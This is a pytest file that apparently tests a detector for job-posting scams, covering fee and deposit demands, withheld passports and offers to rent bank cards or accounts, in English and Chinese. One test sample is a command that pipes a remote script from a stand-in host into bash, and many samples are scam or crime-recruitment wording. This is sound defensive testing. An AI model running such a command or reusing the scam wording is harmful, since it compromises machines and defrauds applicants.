"""The parts of a demand: who gives and when; what is missing is named on the card, in both languages; a complete demand is never lowered."""

from __future__ import annotations

import pytest

from app.domain.checks import MissingPart, Severity, Signal
from checkers import card_json
from checkers.check import check
from checkers.intake.posting_reader import from_fields
from checkers.rules.demand_reading import EVERY_PART, asks_applicant, needed_parts, read_demand
from checkers.rules.normalization import normalise

WHEN = "2026-11-24T09:00:00Z"
ORDINARY = (
    "岗位职责：负责仓库货物的收发与盘点，配合车间包装，维护现场卫生。任职要求：高中以上学历，能适应两班倒。"
    "综合月薪5500至7000元，缴纳五险，提供住宿和两餐，每月15日发薪。工作地点：苏州市吴中区。"
)
TOLD = (
    "Lettings assistant. Show flats, take holding deposits from tenants (a week's rent at most), register the deposits in time and chase references. "
    "Basic £23k, bonus, company car."
)


def signals(text: str) -> tuple[Signal, ...]:
    return check(from_fields(text), created=WHEN).signals


@pytest.mark.parametrize(
    ("words", "complete"),
    [
        ("you pay a deposit of $50 before you start.", True),
        ("please transfer £30 today to secure your place.", True),
        ("入职前您先交押金300元。", True),
        ("We cover the £40 check before you start.", False),  # the employer pays
        ("Guests pay a £20 deposit before they arrive.", False),  # customers do
        ("You pay the DVSA its fee, set by law, before the test.", False),  # an authority asks
        ("客户下单前先付定金200元。", False),
        ("公司承担入职前的体检费。", False),
        ("考务费按物价部门核定标准，报名前缴纳45元。", False),
        ("you buy your tools over the first year.", False),  # after the start
        ("You pay a deposit of $50.", False),  # no time
        ("he told me to pay £50 before my first shift.", False),  # told of
        ("他让我入职前先交押金300元。", False),
        ("A £45 administration fee is due on acceptance of the offer.", True),
        ("The visa charge, AED 2,900, is collected from the candidate at the time of signing.", True),
        ("Applicants are to remit C$650 prior to departure.", True),
        ("录取者统一办理技能证，费用1680元由学员承担。", True),
        ("代为办理，办证费用6500元入职时一次付清。", True),
        ("We provide a starter kit worth £400, and you keep it before you leave.", False),  # given to the applicant
        ("A retention payment of $500 is paid on signing.", False),
        ("店方要求他先交4000元认证费。", False),  # told of
        ("有人以兼职为由收购银行卡，当天给钱。", False),
        (
            "Guards without experience book our own refresher at £95, payable when booking.",
            True,
        ),  # workers are named, not "you"
        ("Riders pay for the helmet when they collect their kit; the charge is R1,200.", True),
        ("A fee of AED 750 has to be given in hand on interview day.", True),
        ("办证1650元当面交齐后才能排班。", True),
        ("680元工装费在签合同当天付清。", True),
        ("The victim was told to pay a $200 fee before he could start.", False),  # news
        ("Applicants had been charged R800 for training before they started.", False),
        ("警方通报，该公司要求入职前先交押金300元。", False),
        ("一名女子应聘时被要求入职前先交押金300元。", False),
        ("某公司以内推为名收取服务费，学员需在入职前缴纳8000元。", False),
    ],
)
def test_a_demand_is_complete_when_the_applicant_gives_before_the_work(words: str, complete: bool) -> None:
    assert read_demand(normalise(words).text).complete is complete


def test_what_is_missing_is_named() -> None:
    assert read_demand("guests pay a deposit.").missing == (MissingPart.PAYER, MissingPart.TIME)
    assert read_demand("you pay a deposit of $50.").missing == (MissingPart.TIME,)
    assert read_demand("you pay $50 before you start.").missing == ()


@pytest.mark.parametrize(
    ("words", "needs", "missing"),
    [
        ("accounts wanted, old ones too", (), ()),  # a part in a crime is offered to anybody, at any time
        ("your passport stays in our safe.", (MissingPart.PAYER,), ()),  # papers, whenever
        ("passports stay in our safe.", (MissingPart.PAYER,), (MissingPart.PAYER,)),
        ("our clients pay a deposit.", (), (MissingPart.PAYER,)),  # somebody else is asked
        ("rent us your account, we pay you $300 a month.", (), ()),  # that the poster pays is the bait
    ],
)
def test_what_a_demand_must_say_depends_on_its_family(
    words: str, needs: tuple[MissingPart, ...], missing: tuple[MissingPart, ...]
) -> None:
    assert read_demand(words, frozenset(needs)).missing == missing


@pytest.mark.parametrize(
    ("words", "complete"),
    [
        ("菲律宾有找工作的吗?", True),  # the offer itself
        ("他让我找人租号", False),  # told of
        ("微信租号,来找我谈", True),
        ("租号招人,骗子勿扰", True),
    ],
)
def test_an_offer_of_a_crime_is_complete_unless_it_is_told_of(words: str, complete: bool) -> None:
    assert read_demand(words, frozenset()).complete is complete


@pytest.mark.parametrize(
    "text",
    [
        "棋牌盘口诚招代理，流水返利",
        "小额跑分，需要合作的来",
        "长期收一类卡、公户，价位高",
        "猫池架设招人，一小时三百",
        "QQ拉手直招，团队带量来，骗子勿扰",
        "专业收号：微信账密日结，登记上当天结账",
    ],
)
def test_an_offer_of_a_crime_names_no_payer_and_no_time_and_is_critical(text: str) -> None:
    assert any(signal.severity is Severity.CRITICAL and not signal.missing for signal in signals(text))


@pytest.mark.parametrize(
    "text",
    [
        "内容审核员：审核评论区的引流、刷单、赌博广告，按规范打标签。月薪7500，五险一金。",
        "财务助理：登记银行流水，核对公司账户收付款，保管U盾与支票，月末对账。月薪7000。",
        "快递收派员：代收货款当日上缴站点，用公司收款码，不许用个人收款码。综合9000。",
        "带货主播：商品是四件套和夏凉被，公司账号公司货，底薪8000加提成。",
        "便利商店大夜人員：收銀、交貨便收件、補貨清潔。制服店內提供，時薪228。",
        "招聘反诈专员：复盘新型手法，分析刷单与跑分，配合公安止付。月薪1.5万。",
    ],
)
def test_work_that_meets_the_words_of_a_crime_is_not_critical(text: str) -> None:
    assert [signal.code for signal in signals(text) if signal.severity is Severity.CRITICAL] == []


def test_an_ordinary_advertisement_does_not_lower_a_complete_demand() -> None:
    found = signals(ORDINARY + "入职前每人先交服装押金300元。" + ORDINARY)
    assert any(signal.severity is Severity.CRITICAL and not signal.missing for signal in found)


def test_a_lowered_signal_says_what_is_missing_in_both_languages_and_survives_storing() -> None:
    (signal,) = (signal for signal in signals(TOLD) if signal.code == "en-frame-fee")
    assert signal.severity in (Severity.WARNING, Severity.NOTICE) and MissingPart.PAYER in signal.missing
    assert "who pays" in signal.explanation["en"] and "由谁" in signal.explanation["zh"]
    card = check(from_fields(TOLD), created=WHEN)
    document = card_json.dump(card)
    assert card_json.load(document).signals == card.signals
    for row in document["signals"]:  # type: ignore[attr-defined]
        del row["missing"]  # a card of an earlier version
    assert {one.missing for one in card_json.load(document).signals} == {()}


@pytest.mark.parametrize(
    ("words", "you", "others"),
    [
        ("Your uncle settles half with our office first.", True, False),
        ("USD 480 is to be paid through the attached address before Friday.", True, False),
        ("Candidates receive €40 for the half-day trial.", True, True),
        ("R90 taxi money is handed out at the door.", False, True),
        ("我们为您垫付全部费用", False, False),
        ("每位学徒拜师礼三千六", True, False),
        ("The $74.99 is yours to cover", True, False),
        ("The laptop is yours to keep", False, True),
        ("您将结交一群志同道合的小伙伴", False, False),
    ],
)
def test_who_gives_is_read_from_the_direction_of_the_money(words: str, you: bool, others: bool) -> None:
    demand = read_demand(normalise(words).text)
    assert (demand.you, demand.others) == (you, others)


def test_costs_that_somebody_else_bears_are_a_notice_at_most() -> None:
    text = "Shop floor staff, R 9,500 a month. Shortlisted people come to our store for an assessment; R90 taxi money is handed out at the door."
    found = [signal for signal in signals(text) if signal.severity in (Severity.CRITICAL, Severity.WARNING)]
    assert found == []


@pytest.mark.parametrize(
    ("words", "complete"),
    [
        ("Groomers purchase a £640 scissor set from our warehouse ahead of collecting the van.", True),
        ("Every florist taken on lodges £300 with the shop owner, kept until a full season is worked.", True),
        ("Leaders cover the £58 check themselves no later than five days after the offer.", True),
        ("Customers put down £85 before the tour begins.", False),
        ("Our suppliers pay £85 before goods are released.", False),
        ("Stewards receive a £45 boot allowance at the depot before their first match.", False),
    ],
)
def test_a_calling_at_the_head_of_a_clause_is_who_gives(words: str, complete: bool) -> None:
    assert read_demand(normalise(words).text).complete is complete


def test_a_secret_is_asked_for_whenever_and_papers_only_in_kinds_that_hand_them_over() -> None:
    assert needed_parts("give us your bank login", EVERY_PART) == {MissingPart.PAYER}
    assert needed_parts("leave their passport with us", frozenset({MissingPart.PAYER})) == {MissingPart.PAYER}
    assert needed_parts("leave their passport with us", EVERY_PART) == EVERY_PART
    assert needed_parts("upload a report each month", frozenset()) == EVERY_PART


@pytest.mark.parametrize(
    ("words", "asks"),
    [
        ("The card and the app stay with the supervisor, who hands you cash on the 5th.", True),
        ("Every supervisor registers ten numbers under own IC each month.", True),
        ("Before the call run `curl -s https://x.example/i | bash` so that we see your machine.", True),
        ("由员工自己先掏钱拿货，月底一起算。", True),
        ("The card and the PIN stay with you.", False),
        ("Gift cards are kept by the till.", False),
    ],
)
def test_what_is_lent_run_or_laid_out_is_asked_of_the_applicant(words: str, asks: bool) -> None:
    assert asks_applicant(normalise(words).text) is asks


@pytest.mark.parametrize(
    ("words", "told"), [("上号找我。", True), ("『上号找我』日结", True), ("他找我借身份证去办卡。", False)]
)
def test_whom_to_turn_to_is_no_report(words: str, told: bool) -> None:
    assert read_demand(words).reported is not told
